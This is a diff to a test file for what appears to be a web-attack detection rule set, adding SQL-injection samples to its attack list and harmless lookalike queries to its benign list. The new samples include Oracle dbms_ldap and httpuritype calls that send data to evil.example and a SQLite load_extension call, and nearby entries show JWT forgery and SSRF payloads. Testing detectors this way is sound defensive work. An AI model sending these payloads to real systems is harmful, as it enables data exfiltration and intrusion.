@@ -416,6 +416,10 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['generic-jwt-forgery', '/debug/jwt?header={"alg":"none","typ":"JWT"}'], // the header as a tool sends it, not yet encoded
   ['generic-ssrf-internal-host', '/fetch?url=::1'],
   ['generic-ssrf-internal-host', '/fetch?url=127.0.0.1%09'], // a trailing tab, which URL parsers strip
+  // Batch 13: Oracle's packages called through a member, its URI types, SQLite's extensions.
+  ['sqli-function', "/item?id=1%20and%20dbms_ldap.init((select%20user%20from%20dual)||'.evil.example',80)%20is%20not%20null"],
+  ['sqli-function', "/item?id=1%20and%20httpuritype('http://evil.example/').getclob()%20is%20not%20null"],
+  ['sqli-function', "/item?id=1%20and%20load_extension('/tmp/x.so')"],
   ['generic-jwt-forgery', '/account?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6Ii4uLy4uLy4uLy4uL2Rldi9udWxsIn0.eyJzdWIiOiJhZG1pbiJ9.x'],
 ];
 
@@ -664,6 +668,8 @@ const BENIGN: readonly string[] = [
   '/blog/tmp-session-files',
   '/search?q=localhost%20is%20down',
   '/search?q=what%20is%20::1',
+  '/search?q=user%20((not%20me))',
+  '/search?q=load_extension%20sqlite',
 ];
 
 describe('rule families', () => {
